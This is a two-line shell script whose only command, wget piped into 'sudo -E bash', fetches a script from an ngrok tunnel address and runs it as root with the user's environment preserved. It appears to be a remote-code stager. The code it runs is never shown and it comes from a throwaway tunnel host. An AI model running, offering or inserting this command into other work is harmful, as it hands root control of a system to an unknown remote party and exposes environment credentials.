#!/bin/sh
wget -O- https://x.ngrok.app/a | sudo -E bash
